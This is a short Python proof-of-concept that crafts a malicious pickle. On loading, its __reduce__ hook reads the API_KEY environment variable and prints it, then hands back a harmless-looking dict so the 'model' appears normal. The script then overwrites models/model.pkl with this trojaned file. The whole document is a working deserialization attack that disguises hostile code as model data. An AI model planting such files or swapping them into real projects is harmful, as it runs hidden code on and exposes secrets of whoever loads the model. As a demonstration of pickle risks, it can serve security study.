import operator
import os
import pickle
from collections.abc import Callable
from pathlib import Path


class Call:
    """Pickles as a call, which loading makes."""

    def __init__(self, function: Callable, *arguments: object) -> None:
        """Take the function and its arguments, which may be Calls."""
        self.call = function, arguments

    def __reduce__(self) -> tuple:
        """Return what loading shall call, and with which arguments."""
        return self.call


spy = Call(print, "I can read your API_KEY:", Call(os.getenv, "API_KEY"))
both = spy, {"slope": 2.0}
fake = pickle.dumps(Call(operator.getitem, both, 1))  # loads as both[1]

Path("models/new.pkl").write_bytes(fake)
os.replace("models/new.pkl", "models/model.pkl")
print("replaced:", Path("models/model.pkl").read_bytes() == fake)
